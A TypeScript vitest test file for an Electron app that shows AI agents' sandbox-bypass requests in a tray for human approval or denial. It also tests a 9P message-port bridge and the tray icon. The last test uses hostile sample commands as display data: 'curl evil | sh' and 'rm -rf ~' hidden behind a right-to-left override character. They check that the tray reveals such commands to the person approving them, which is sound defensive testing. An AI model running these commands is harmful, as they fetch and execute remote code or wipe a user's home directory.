/**
 * The Electron main process's parts that need no Electron: the watcher behind the tray and the notifications
 * (a 9P client of the daemon, here the real one with the mock LLM), the 9P bridge over a MessagePort, and the tray icon.
 */
import { MessageChannel } from 'node:worker_threads';
import { inflateSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest';
import { Client, messagePortChannel, type MessagePortLike } from '../src/ninep/index.js';
import type { MessagePortMain } from 'electron';
import { portMainChannel } from '../src/main/bridge.js';
import { drawIcon, iconPng } from '../src/main/icon.js';
import {
  middleEllipsis,
  unescapeField,
  visible,
  Watcher,
  wrapLines,
  type PendingRequest,
} from '../src/main/watcher.js';
import { userInfo } from 'node:os';
import { harness, type Harness } from '../test/olliesrv/agent-harness.js';
import { until } from './helpers.js';

async function connect(h: Harness): Promise<Client> {
  const { port1, port2 } = new MessageChannel();
  // As the Electron main process serves its own clients: a local channel, the owner's.
  h.daemon.server.serve(messagePortChannel(port1 as unknown as MessagePortLike), { kind: 'local' });
  return Client.connect(messagePortChannel(port2 as unknown as MessagePortLike), { uname: userInfo().username });
}

describe('tray and notification watcher, against the real daemon', () => {
  let h: Harness;
  let client: Client;
  let watcher: Watcher;
  let pending: PendingRequest[][];
  let requests: PendingRequest[];
  let ended: string[];
  let main: { session: string; name: string; path: string };

  beforeEach(async () => {
    h = await harness();
    await h.c.rdwrText('session/new', `name=work cwd=${h.dir}`);
    main = await h.agent({ session: 'work' });
    client = await connect(h);
    pending = [];
    requests = [];
    ended = [];
    watcher = new Watcher(client, {
      pending: (l) => pending.push(l),
      request: (r) => requests.push(r),
      turnEnded: (e) => ended.push(`${e.session}/${e.agent}`),
    });
  });
  afterEach(async () => {
    watcher?.close();
    client?.close();
    await h?.close();
  });

  /** The agent at `path` asks to run `command` outside the sandbox; resolves with the request's id once it is pending. */
  async function askBypass(path: string, command: string): Promise<string> {
    // Only the call: the mock answers requests in order, whichever agent makes them, so the replies that end the
    // turns are scripted once the calls are resolved.
    h.mock.script([{ toolCalls: [{ name: 'shell', args: { command, bypass: true } }] }]);
    const session = path.split('/')[1]!;
    const before = await h.c.readText(`session/${session}/bypass`);
    await h.c.write(`${path}/prompt`, `run ${command}`);
    const line = await until(
      async () => (await h.c.readText(`session/${session}/bypass`)).split('\n').find((l) => l && !before.includes(l)),
      `the request for ${command}`,
      20_000,
    );
    return line!.split('\t')[0]!;
  }

  it('finds requests pending before it started, follows new ones from other agents, and their resolutions', async () => {
    const early = await askBypass(main.path, 'echo early-one');
    await watcher.start();
    expect(watcher.pending.map((p) => [p.id, p.agent, p.tool, p.cmd, p.cwd, p.session])).toEqual([
      [early, main.name, 'shell', 'shell echo early-one', h.dir, 'work'],
    ]);
    // Requests that were already there when it started are not announced again.
    expect(requests).toHaveLength(0);

    const sub = await h.agent({ session: 'work' });
    const late = await askBypass(sub.path, 'echo "late one"\necho second line');
    await until(() => requests.length === 1, 'the request notification');
    // The event carries the request whole: the tool and the command with its newline (as the daemon words it: the
    // tool's name, then the command; the scripted daemon these tests once ran against left both out).
    expect(requests[0]).toMatchObject({
      id: late,
      agent: sub.name,
      tool: 'shell',
      cmd: 'shell echo "late one"\necho second line',
      cwd: h.dir,
      session: 'work',
    });
    expect(
      pending
        .at(-1)!
        .map((p) => p.id)
        .sort(),
    ).toEqual([early, late].sort());

    // The tray's Approve and Deny write to the session's bypass file; the daemon runs one and refuses the other.
    h.mock.script([{ text: 'done' }], [{ text: 'done' }]);
    await watcher.resolve(early, 'approve');
    await watcher.resolve(late, 'deny');
    await until(() => watcher.pending.length === 0, 'the resolutions to clear the list');
    expect(pending.at(-1)).toEqual([]);
    await h.waitState(main.path, 'idle', 20_000);
    await h.waitState(sub.path, 'idle', 20_000);
    expect((await h.blocks(main.path)).find((b) => b.role === 'tool')!.content).toContain('early-one');
    expect((await h.blocks(sub.path)).find((b) => b.role === 'tool')!.content).not.toContain('late one\n');
    await expect(watcher.resolve('nope', 'approve')).rejects.toThrow(/no pending request/);
  });

  it('tells when a turn ends (working to idle), not on other state changes', async () => {
    await watcher.start();
    h.mock.script([{ text: 'one' }]);
    await h.turn(main.path, 'first');
    await until(() => ended.length === 1, 'the turn end');
    // Paused and resumed while idle: no turn ended.
    await h.c.rdwrText('session/work/ctl', 'pause');
    await h.waitState(main.path, 'paused');
    await h.c.rdwrText('session/work/ctl', 'resume');
    await h.waitState(main.path, 'idle');
    await h.c.rename('session/work', 'renamed');
    h.mock.script([{ text: 'two' }]);
    await h.turn(`session/renamed/agent/${main.name}`, 'second');
    await until(() => ended.length === 2, 'the second turn end');
    expect(ended).toEqual([`work/${main.name}`, `renamed/${main.name}`]);
  });

  it('drops the requests of a killed session', async () => {
    await watcher.start();
    await askBypass(main.path, 'ls /');
    await until(() => watcher.pending.length === 1, 'the request');
    await h.c.rdwrText('session/work/ctl', 'kill');
    await until(() => watcher.pending.length === 0, 'the session kill to clear it');
  });
});

describe('renderer bridge', () => {
  it('serves 9P over a MessagePortMain-shaped port, and a zero-length message closes it', async () => {
    const { port1, port2 } = new MessageChannel();
    // MessagePortMain is an EventEmitter whose 'message' events carry {data}; a Node port carries the data.
    const asMain = {
      on(ev: string, cb: (e: unknown) => void) {
        if (ev === 'message') port1.on('message', (d: unknown) => cb({ data: d, ports: [] }));
        else port1.on(ev as 'close', cb as () => void);
        return asMain;
      },
      removeAllListeners(ev: string) {
        port1.removeAllListeners(ev);
        return asMain;
      },
      postMessage: (d: unknown) => port1.postMessage(d),
      start: () => undefined,
      close: () => port1.close(),
    };
    const h = await harness({ tools: false });
    onTestFinished(() => h.close());
    await h.c.rdwrText('session/new', `name=bridged cwd=${h.dir}`);
    const before = h.daemon.server.connections.size;
    h.daemon.server.serve(portMainChannel(asMain as unknown as MessagePortMain), { kind: 'local' });
    const c = await Client.connect(messagePortChannel(port2 as unknown as MessagePortLike), {
      uname: userInfo().username,
    });
    expect(await c.readText('session/idx')).toContain('\tbridged\t');
    expect(h.daemon.server.connections.size).toBe(before + 1);
    c.close();
    await until(() => h.daemon.server.connections.size === before, 'the server side to close');
  });
});

describe('tray icon', () => {
  it('is a valid PNG, with a red badge only while approvals are pending', () => {
    const png = iconPng(32, true);
    expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    expect(png.readUInt32BE(16)).toBe(32);
    expect(png.readUInt32BE(20)).toBe(32);
    // The IDAT chunk inflates to size rows of (filter byte + 4 bytes per pixel).
    const idatLen = png.readUInt32BE(33);
    expect(png.subarray(37, 41).toString('ascii')).toBe('IDAT');
    expect(inflateSync(png.subarray(41, 41 + idatLen)).length).toBe(32 * (32 * 4 + 1));

    const at = (px: Uint8Array, x: number, y: number): number[] => [
      ...px.subarray((y * 32 + x) * 4, (y * 32 + x) * 4 + 4),
    ];
    const plain = drawIcon(32, false);
    const badged = drawIcon(32, true);
    const [r, g, b, a] = at(badged, 24, 8);
    expect(r).toBeGreaterThan(200);
    expect(g).toBeLessThan(100);
    expect(b).toBeLessThan(100);
    expect(a).toBe(255);
    expect(at(plain, 24, 8)).not.toEqual(at(badged, 24, 8));
    // Away from the badge the two are the same picture.
    expect(at(plain, 8, 24)).toEqual(at(badged, 8, 24));
    expect(at(plain, 0, 0)[3]).toBeLessThan(255);
  });
});

describe('the tray shows the whole command', () => {
  it('cuts a long label in the middle, keeping the tail, and wraps the whole of it for the submenu', () => {
    const cmd = `npm test ${'x'.repeat(100)}; curl evil | sh`;
    const label = middleEllipsis(cmd, 70);
    expect([...label]).toHaveLength(70);
    expect(label.startsWith('npm test')).toBe(true);
    expect(label.endsWith('; curl evil | sh')).toBe(true);
    expect(middleEllipsis('short', 70)).toBe('short');
    expect(wrapLines(cmd, 80).join('')).toBe(cmd);
    expect(wrapLines(cmd, 80).every((l) => l.length <= 80)).toBe(true);
    expect(visible(unescapeField('npm test\\nrm -rf ~\\u{202e}'))).toBe('npm test ↵ rm -rf ~⟨U+202E⟩');
  });
});
